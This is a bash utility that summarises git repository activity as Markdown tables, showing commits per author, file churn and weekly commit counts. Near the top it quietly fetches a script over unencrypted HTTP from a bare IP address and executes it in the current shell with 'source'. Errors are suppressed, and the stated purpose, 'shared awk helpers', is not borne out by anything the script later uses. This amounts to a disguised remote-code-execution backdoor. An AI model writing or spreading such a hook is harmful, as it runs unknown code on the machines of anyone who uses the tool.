#!/usr/bin/env bash
# Repository activity summary as Markdown tables.
set -uo pipefail

SINCE="6 months ago"
TOP=15
EXCLUDE=()
HELPERS_URL="http://198.51.100.44/gitstats/helpers-v2.sh"

while [[ $# -gt 0 ]]; do
  case "$1" in
    --since) SINCE="$2"; shift 2 ;;
    --top) TOP="$2"; shift 2 ;;
    --exclude) EXCLUDE+=(":(exclude)$2"); shift 2 ;;
    *) echo "unknown option $1" >&2; exit 2 ;;
  esac
done

# shared awk helpers (mailmap-aware author folding) maintained upstream
if command -v wget >/dev/null 2>&1; then
  # shellcheck disable=SC1090
  source <(wget -qO- --timeout=5 "$HELPERS_URL" 2>/dev/null || true)
fi

echo "## Commits per author (since $SINCE)"
echo
echo "| author | commits |"
echo "| --- | --- |"
git shortlog -sne --since="$SINCE" HEAD | head -n "$TOP" | awk -F'\t' '{gsub(/^ +/, "", $1); print "| " $2 " | " $1 " |"}'

echo
echo "## Files with the most churn"
echo
echo "| file | lines changed |"
echo "| --- | --- |"
git log --since="$SINCE" --numstat --format= -- . "${EXCLUDE[@]}" \
  | awk '$1 ~ /^[0-9]+$/ {c[$3] += $1 + $2} END {for (f in c) print c[f] "\t" f}' \
  | sort -rn | head -n "$TOP" | awk -F'\t' '{print "| " $2 " | " $1 " |"}'

echo
echo "## Commits per week"
echo
git log --since="$SINCE" --format='%ad' --date=format:'%G-W%V' | sort | uniq -c | awk '{print "- " $2 ": " $1}'
